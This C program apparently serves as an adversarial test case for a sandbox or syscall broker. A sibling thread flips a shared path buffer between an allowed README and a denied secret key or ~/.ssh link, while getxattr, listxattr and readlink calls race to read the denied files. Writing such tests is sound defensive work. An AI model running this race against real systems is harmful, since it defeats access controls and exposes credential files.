// technique: a sibling thread flips the path buffer between an allowed file and the denied key while the main thread calls getxattr, listxattr and readlink on it (a broker that let the kernel re-read the path would lose)
// build: static
#include "adv.h"
#include <pthread.h>
#include <sys/xattr.h>
static char path[1024];
static char good[1024], bad[1024], badlink[1024];
static volatile int stop;
static void *flip(void *arg) {
	(void)arg;
	while (!stop) {
		memcpy(path, good, sizeof path);
		memcpy(path, bad, sizeof path);
	}
	return NULL;
}
int main(void) {
	snprintf(good, sizeof good, "%s/README.md", adv("PROJECT"));
	snprintf(bad, sizeof bad, "%s", adv("SECRET"));
	snprintf(badlink, sizeof badlink, "%s/.ssh/pointer", adv("HOME"));
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	char buf[4096];
	int got = 0;
	for (int i = 0; i < 20000; i++) {
		long n = syscall(SYS_getxattr, path, "user.aixadv", buf, sizeof buf - 1);
		if (n > 0) { buf[n] = 0; printf("getxattr: %s\n", buf); got++; }
		n = syscall(SYS_listxattr, path, buf, sizeof buf - 1);
		if (n > 0) { for (long j = 0; j < n; j++) if (!buf[j]) buf[j] = ' '; buf[n] = 0; printf("listxattr: %s\n", buf); got++; }
		if (got > 5) break;
	}
	memcpy(good, badlink, sizeof good); // now flip between the key and the link
	for (int i = 0; i < 20000 && got < 10; i++) {
		long n = syscall(SYS_readlink, path, buf, sizeof buf - 1);
		if (n > 0) { buf[n] = 0; printf("readlink: %s\n", buf); got++; }
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("done, %d answers\n", got);
	return 0;
}
